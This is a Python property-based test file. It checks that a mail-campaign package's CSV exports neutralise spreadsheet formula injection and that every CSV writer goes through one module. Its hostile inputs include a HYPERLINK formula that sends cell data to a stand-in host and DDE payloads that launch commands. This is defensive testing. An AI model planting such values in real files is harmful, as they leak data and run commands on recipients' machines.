"""Formula injection in every CSV we write: the campaign's outcome export, the validation errors
of a campaign, the audit log's export. Whatever text a recipient, a sender or a person put in a
cell, Excel and LibreOffice open it as text, never as a formula (=, +, -, @, tab or CR first), and
the file reads back into the same number of rows and columns. Every CSV writer of the package
is export.py's (a new export that writes CSV by itself fails the first test)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pecflow.domain.campaign import DictAttachmentIndex, Manifest, validate, write_export
from pecflow.services.audit import AuditLog
from tests import fakes

PACKAGE = Path(__file__).resolve().parents[2] / "shared" / "pecflow"
FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = st.one_of(
    st.sampled_from(['=HYPERLINK("http://evil.test/?"&A1;"clic")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                     "\t=1", "\r=1", '=1;"=2"', "=cmd|'/c calc'!A1\r\n=2"]),
    st.builds(lambda head, tail: head + tail, st.sampled_from(FORMULA), st.text(max_size=30)),
)  # fmt: skip


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), (cell, row)


def test_every_csv_writer_is_the_formula_safe_one():
    writers = []
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    writers.append(str(path.relative_to(PACKAGE)))
    assert writers == ["domain/campaign/export.py"], writers


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(cells=st.lists(HOSTILE, min_size=4, max_size=4))
def test_the_campaign_export(cells):
    job = {"row": 2, "recipient": cells[0], "status": "failed", "error": cells[1],
           "values": {"nome": cells[2], "note": cells[3]}}  # fmt: skip
    out = io.BytesIO()
    assert write_export(out, [job], value_columns=["nome", "note"]) == 1
    rows = read(out.getvalue())
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    assert_no_formula(rows)


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(cells=st.lists(HOSTILE, min_size=3, max_size=3))
def test_the_validation_errors_csv(cells):
    manifest = Manifest.from_dict({"mailbox": "u@pec.it", "subject": "x", "body_text": "{{ nome }}"})
    text = "Nome;PEC;Altro\r\n" + "".join(
        ";".join('"' + c.replace('"', '""') + '"' for c in (cell, cell, cell)) + "\r\n" for cell in cells
    )
    with validate(manifest, io.BytesIO(text.encode()), DictAttachmentIndex()) as report:
        out = io.BytesIO()
        report.write_errors_csv(out)
    rows = read(out.getvalue())
    assert len(rows) >= 2
    assert_no_formula(rows)


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(cells=st.lists(HOSTILE, min_size=4, max_size=4))
def test_the_audit_export(cells):
    log = AuditLog(fakes.FakeAuditStore())
    log.record("u@pec.it", actor=cells[0], action="view", message=cells[1], client=cells[2],
               details={"note": cells[3]})  # fmt: skip
    out = io.BytesIO()
    assert log.export("u@pec.it", out, start=datetime(2000, 1, 1, tzinfo=UTC)) == 1
    rows = read(out.getvalue())
    assert len(rows) == 2 and len(rows[1]) == len(rows[0])
    assert_no_formula(rows)
